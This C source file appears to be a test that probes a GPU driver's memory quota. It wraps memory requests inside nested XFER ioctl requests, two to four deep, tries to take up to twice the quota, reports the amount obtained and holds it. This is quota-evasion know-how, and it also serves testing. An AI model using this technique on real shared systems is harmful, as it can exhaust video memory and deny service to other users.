/* SPDX-License-Identifier: Apache-2.0 */
/* Video memory by requests inside requests inside requests: XFER in XFER, two to four deep, of which the driver unwraps
 * one. What was had that way is said; then the same once more, one deep, which the driver takes. */
#include "kit.h"

#include <stdio.h>
#include <sys/ioctl.h>

enum {
        DEEPEST = 4,
        XFER = 0xd3,
        XFER_SIZE = 16,
};

static unsigned int depth = DEEPEST;

static int nested(int fd, unsigned long request, void *block)
{
        unsigned char outer[DEEPEST][XFER_SIZE] = { 0 };

        for (unsigned int i = 0; i < depth; i++) {
                kit_put32(outer[i], 0, (uint32_t)request & 0xff);
                kit_put32(outer[i], 4, (uint32_t)request >> 16 & 0x3fff);
                kit_put64(outer[i], 8, (uintptr_t)block);
                block = outer[i];
                request = _IOC(_IOC_READ | _IOC_WRITE, 'F', XFER, XFER_SIZE);
        }
        return ioctl(fd, request, block);
}

int main(void)
{
        const uint64_t most = 2 * kit_quota_mib();
        uint32_t handle = KIT_MEMORY;
        uint64_t deep = 0;
        struct kit_rm rm;

        kit_rm_open(&rm);
        kit_ioctl = nested;
        for (depth = 2; depth <= DEEPEST; depth++, handle += 0x10000)
                deep += kit_rm_take(&rm, handle, 4, most);
        depth = 1;
        printf("nested mib=%llu\n", (unsigned long long)deep);
        kit_hold(deep + kit_rm_take(&rm, handle, 4, most));
        return 0;
}
